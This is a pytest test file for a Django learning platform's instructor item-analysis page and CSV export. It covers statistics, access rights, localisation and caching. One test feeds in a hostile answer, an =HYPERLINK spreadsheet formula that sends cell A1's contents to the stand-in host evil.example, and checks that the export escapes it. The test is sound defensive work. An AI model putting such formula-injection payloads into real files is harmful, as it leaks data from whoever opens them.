"""Item analysis against a small example worked out by hand."""

import csv
import io

import pytest
from django.urls import reverse

from authoring.selectors import course_statistics
from lab import execution
from lab import services as lab_services
from lab.models import Prediction
from quizzes import services
from quizzes.models import Question
from quizzes.selectors import fact_statistics, item_statistics
from tests.factories import UserFactory
from tests.lab.conftest import draw_nothing, fake_result, fake_sandbox


def take_test(user, quiz, answers: dict[str, dict]):
    attempt = services.attempt_start(user=user, quiz=quiz, mode="test")
    for key, form in answers.items():
        question = Question.objects.get(course=quiz.course, key=key)
        services.response_submit(attempt=attempt, question=question, form=form)
    return services.attempt_finish(attempt=attempt)


RIGHT_PICK, WRONG_PICK = {"option": ["right"]}, {"option": ["wrong"]}
RIGHT_NUMBER, WRONG_NUMBER = {"answer": ["0.25"]}, {"answer": ["0.5"]}
RIGHT_TF, WRONG_TF = {"answer": ["false"]}, {"answer": ["true"]}


@pytest.fixture
def four_tests(quiz):
    """Four learners; their totals are 2, 1, 1 and 1 points.

    With 27 % of 4 attempts = 1 per group, the upper group is Anna (2 points) and the lower
    group is Ben (1 point, the oldest of the three tied at 1).

                 pick-one  how-much  is-it-true   total
        Anna        1         1         0           2
        Ben         1         0         0           1
        Cem         0         1         0           1
        Dora        0         0         1           1
    """
    plans = {
        "anna": (RIGHT_PICK, RIGHT_NUMBER, WRONG_TF),
        "ben": (RIGHT_PICK, WRONG_NUMBER, WRONG_TF),
        "cem": (WRONG_PICK, RIGHT_NUMBER, WRONG_TF),
        "dora": (WRONG_PICK, WRONG_NUMBER, RIGHT_TF),
    }
    for name, (pick, number, truth) in plans.items():
        take_test(UserFactory(username=name), quiz, {"pick-one": pick, "how-much": number, "is-it-true": truth})
    practice = services.attempt_start(user=UserFactory(username="eve"), quiz=quiz, mode="practice")
    services.response_submit(attempt=practice, question=Question.objects.get(key="pick-one"), form=WRONG_PICK)
    return quiz


def by_key(items):
    return {item.question.key: item for item in items}


def test_facility_is_the_mean_score_of_finished_tests(four_tests):
    items = by_key(item_statistics(course=four_tests.course))
    assert items["pick-one"].facility == pytest.approx(0.5)
    assert items["how-much"].facility == pytest.approx(0.5)
    assert items["is-it-true"].facility == pytest.approx(0.25)
    assert items["pick-one"].answers == 4  # eve's practice answer is not counted
    assert items["name-it"].answers == 0
    assert items["name-it"].facility is None


def test_discrimination_is_the_upper_groups_mean_minus_the_lower_groups(four_tests):
    items = by_key(item_statistics(course=four_tests.course))
    assert items["pick-one"].discrimination == pytest.approx(0.0)  # Anna 1, Ben 1
    assert items["how-much"].discrimination == pytest.approx(1.0)  # Anna 1, Ben 0
    assert items["is-it-true"].discrimination == pytest.approx(0.0)  # Anna 0, Ben 0


def test_the_distribution_counts_each_option_and_each_answer(four_tests):
    items = by_key(item_statistics(course=four_tests.course))
    assert items["pick-one"].distribution == [("right", 2, True), ("wrong", 2, False)]
    assert sorted(items["how-much"].distribution) == [(0.25, 2, True), (0.5, 2, False)]
    assert items["is-it-true"].distribution == [(True, 3, False), (False, 1, True)]


def test_per_fact_the_share_of_learners_whose_latest_answers_were_all_right(four_tests):
    facts = {item.fact.key: item for item in fact_statistics(course=four_tests.course)}
    # fact-one: pick-one and how-much. Only Anna has both right; eve tried pick-one and missed.
    assert (facts["fact-one"].right, facts["fact-one"].learners) == (1, 5)
    # fact-two: is-it-true. Only Dora is right.
    assert (facts["fact-two"].right, facts["fact-two"].learners) == (1, 4)


def test_with_fewer_than_four_attempts_there_is_no_discrimination(quiz, learner):
    take_test(learner, quiz, {"pick-one": RIGHT_PICK})
    items = by_key(item_statistics(course=quiz.course))
    assert items["pick-one"].facility == 1.0
    assert items["pick-one"].discrimination is None


def test_only_instructors_see_the_item_analysis(client, four_tests, learner, instructor):
    url = reverse("authoring:item_analysis", kwargs={"course": four_tests.course.key})
    assert client.get(url).url.startswith(reverse("login"))
    client.force_login(learner)
    assert client.get(url).status_code == 403
    assert client.get(reverse("authoring:dashboard")).status_code == 403
    client.force_login(instructor)
    page = client.get(url)
    assert page.status_code == 200
    assert b"item-how-much" in page.content
    assert client.get(reverse("authoring:dashboard")).status_code == 200


def page_of(client, course, user, language="en") -> str:
    client.force_login(user)
    client.cookies["django_language"] = language
    return client.get(reverse("authoring:item_analysis", kwargs={"course": course.key})).text


def item_section(page: str, key: str) -> str:
    start = page.index(f'id="item-{key}"')
    return page[start : page.index("</section>", start)]


def test_it_shows_answers_by_their_text_in_the_readers_language(client, four_tests, instructor):
    english = item_section(page_of(client, four_tests.course, instructor), "pick-one")
    assert "The right one" in english and "The wrong one" in english
    assert ">right<" not in english.replace(' class="answer-tag">right<', "")  # no option key as a label
    german = item_section(page_of(client, four_tests.course, instructor, "de"), "pick-one")
    assert "Die richtige" in german and "Die falsche" in german
    truth = item_section(page_of(client, four_tests.course, instructor), "is-it-true")
    assert "True" in truth and "False" in truth


def test_it_marks_the_right_option_in_words_and_colours_wrong_bars_apart(client, four_tests, instructor):
    section = item_section(page_of(client, four_tests.course, instructor), "pick-one")
    right_row, wrong_row = section.split("<tr ")[1:3]
    assert 'class="right"' in right_row and "The right one" in right_row
    assert '<span class="answer-tag">right</span>' in right_row and 'aria-label="right answer: 50 %"' in right_row
    assert 'class="wrong"' in wrong_row and "answer-tag" not in wrong_row
    assert 'aria-label="wrong answer: 50 %"' in wrong_row


def test_short_answers_are_counted_after_the_graders_normalisation(quiz, learner):
    for index, text in enumerate(["Sigmoid", "sigmoid.", "  SIGMOID ", "tanh"]):
        take_test(UserFactory(username=f"s{index}"), quiz, {"name-it": {"answer": [text]}})
    take_test(learner, quiz, {"name-it": {"answer": ["sigmoid."]}})
    items = by_key(item_statistics(course=quiz.course))
    assert items["name-it"].distribution == [("sigmoid.", 4, True), ("tanh", 1, False)]


def test_ordering_and_matching_answers_read_as_their_items(client, quiz, instructor):
    take_test(instructor, quiz, {"put-in-order": {"item": ["loss", "forward", "backward"]}})
    page = page_of(client, quiz.course, instructor)
    assert "Loss → Forward → Backward" in item_section(page, "put-in-order")
    assert "Right answer: Forward → Loss → Backward" in item_section(page, "put-in-order")


@pytest.fixture
def predictions(course, django_capture_on_commit_callbacks):
    """Three learners predict the sigmoid question; the fake run measures 2 orders (±3 is right)."""
    question = Question.objects.get(course=course, key="predict-sigmoid-depth")
    for name, value in (("pia", 4.0), ("paul", 4.0), ("pat", 9.5)):
        with django_capture_on_commit_callbacks(execute=False):
            run = lab_services.prediction_make(owner=UserFactory(username=name), question=question, value=value)
        execution.run_execute(
            run_id=run.id, worker="w", sandbox_run=fake_sandbox(fake_result(layers=4)), draw=draw_nothing
        )
    assert Prediction.objects.filter(correct__isnull=False).count() == 3
    return question


def test_prediction_questions_are_analysed_from_the_predictions_made(client, course, predictions, olga):
    items = by_key(course_statistics(course=course)[0])
    item = items["predict-sigmoid-depth"]
    assert item.answers == 3 and item.facility == pytest.approx(2 / 3)
    assert item.distribution == [(4.0, 2, True), (9.5, 1, False)]
    section = item_section(page_of(client, course, olga, "de"), "predict-sigmoid-depth")
    assert "No graded predictions yet" not in section and "No answers" not in section
    assert "9,5 Größenordnungen" in section and "Richtig innerhalb von ±3" in section


def test_a_new_prediction_shows_at_once_despite_the_cache(course, predictions, django_capture_on_commit_callbacks):
    assert by_key(course_statistics(course=course)[0])["predict-sigmoid-depth"].answers == 3
    with django_capture_on_commit_callbacks(execute=False):
        run = lab_services.prediction_make(owner=UserFactory(username="pim"), question=predictions, value=1.0)
    execution.run_execute(run_id=run.id, worker="w", sandbox_run=fake_sandbox(fake_result(layers=4)), draw=draw_nothing)
    assert by_key(course_statistics(course=course)[0])["predict-sigmoid-depth"].answers == 4


def test_per_fact_mastery_is_on_the_page(client, four_tests, instructor):
    page = page_of(client, four_tests.course, instructor)
    facts = page[page.index("<h2>Facts</h2>") : page.index("<h2>Questions</h2>")]
    assert "1 of 5" in facts and "1 of 4" in facts


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


def test_the_csv_has_a_row_per_answer_in_words(client, four_tests, instructor):
    client.force_login(instructor)
    response = client.get(reverse("authoring:item_analysis_csv", kwargs={"course": four_tests.course.key}))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "test-course-item-analysis.csv" in response["Content-Disposition"]
    rows = read_csv(response)
    assert rows[0][:4] == ["question", "type", "prompt", "answers"]
    pick = [row for row in rows if row[0] == "pick-one"]
    assert [row[6:] for row in pick] == [["The right one", "2", "0.5", "yes"], ["The wrong one", "2", "0.5", "no"]]
    assert pick[0][3:6] == ["4", "0.5", "0.0"]
    assert [row[6] for row in rows if row[0] == "name-it"] == [""]  # not answered: one row, no answer


def test_the_csv_escapes_a_hostile_answer_text(client, quiz, instructor):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    take_test(UserFactory(username="mallory"), quiz, {"name-it": {"answer": [hostile]}})
    client.force_login(instructor)
    rows = read_csv(client.get(reverse("authoring:item_analysis_csv", kwargs={"course": quiz.course.key})))
    (row,) = [row for row in rows if row[0] == "name-it"]
    assert row[6] == "'" + hostile


def test_the_csv_is_in_the_readers_language(client, four_tests, instructor):
    client.force_login(instructor)
    client.cookies["django_language"] = "de"
    rows = read_csv(client.get(reverse("authoring:item_analysis_csv", kwargs={"course": four_tests.course.key})))
    assert rows[0][0] == "Frage"
    assert ["Die richtige", "2", "0.5", "ja"] in [row[6:] for row in rows]


def test_the_cached_page_shows_a_new_answer_at_once(client, quiz, instructor):
    take_test(UserFactory(username="first"), quiz, {"pick-one": RIGHT_PICK})
    assert "<dd>1</dd>" in item_section(page_of(client, quiz.course, instructor), "pick-one")
    take_test(UserFactory(username="second"), quiz, {"pick-one": WRONG_PICK})
    section = item_section(page_of(client, quiz.course, instructor), "pick-one")
    assert "<dd>2</dd>" in section and 'aria-label="wrong answer: 50 %"' in section
